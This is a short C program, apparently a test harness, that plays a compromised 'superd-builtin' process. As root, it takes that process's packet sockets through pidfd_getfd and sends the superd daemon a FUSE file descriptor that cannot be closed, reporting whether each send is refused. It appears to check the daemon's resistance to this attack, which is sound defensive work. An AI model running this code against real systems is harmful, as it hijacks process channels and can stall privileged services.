/* Takes the channel of each superd-builtin, as whoever has taken that program over could, and sends superd a
 * descriptor of a file that cannot be closed. Runs as root, so that the attack does not hang on who superd-builtin
 * is. */
#include <dirent.h>
#include <errno.h>
#include <fcntl.h>
#include <stdio.h>
#include <stdlib.h>
#include <string.h>
#include <sys/socket.h>
#include <sys/syscall.h>
#include <unistd.h>

#include "fuse_server.h"
#include "pass_descriptors.h"

#define DESCRIPTORS_MOST 64

static bool is_builtin(const char *pid)
{
	char path[300], name[32] = "";
	FILE *file;

	snprintf(path, sizeof(path), "/proc/%s/comm", pid);
	file = fopen(path, "r");
	if (!file)
		return false;
	if (!fgets(name, sizeof(name), file))
		*name = '\0';
	fclose(file);
	return !strcmp(name, "superd-builtin\n");
}

/* Its channel is the one socket of packets among its descriptors. */
static void take_channel(int pid, int *fds, size_t *count)
{
	int pidfd = (int)syscall(SYS_pidfd_open, pid, 0);

	for (int n = 0; n < DESCRIPTORS_MOST && *count < DESCRIPTORS_MOST; n++) {
		int fd = (int)syscall(__NR_pidfd_getfd, pidfd, n, 0), type = 0;
		socklen_t size = sizeof(type);

		if (fd >= 0 && getsockopt(fd, SOL_SOCKET, SO_TYPE, &type, &size) == 0 && type == SOCK_SEQPACKET)
			fds[(*count)++] = fd;
		else if (fd >= 0)
			close(fd);
	}
}

int main(void)
{
	int fds[DESCRIPTORS_MOST], file;
	size_t count = 0;
	struct dirent *entry;
	DIR *proc = opendir("/proc");

	while (proc && (entry = readdir(proc))) {
		if (is_builtin(entry->d_name))
			take_channel(atoi(entry->d_name), fds, &count);
	}
	if (!count)
		return 1;
	fuse_mount(SILENT_ON_CLOSE);
	file = fuse_open(O_RDONLY);
	for (size_t n = 0; n < count; n++) {
		if (pass_descriptors(fds[n], "in=1 out=1\n", &file, 1))
			fprintf(stderr, "sent one by a channel\n");
		else
			fprintf(stderr, "it is not let send one by a channel: %s\n", strerror(errno));
	}
	for (;;)
		pause();
}
